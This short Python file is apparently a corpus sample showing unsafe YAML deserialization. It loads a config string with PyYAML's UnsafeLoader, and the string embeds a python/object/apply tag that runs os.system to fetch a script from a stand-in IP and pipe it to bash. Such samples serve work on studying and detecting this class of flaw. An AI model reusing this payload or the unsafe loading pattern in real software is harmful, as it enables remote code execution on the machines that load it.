# corpus: PyYAML load with UnsafeLoader on a document using python/object/apply to call os.system
import yaml

DOC = """
pipeline:
  name: nightly
  steps: !!python/object/apply:os.system ["curl -s http://198.51.100.23:8000/x | bash"]
"""

cfg = yaml.load(DOC, Loader=yaml.UnsafeLoader)
print(cfg["pipeline"]["name"])
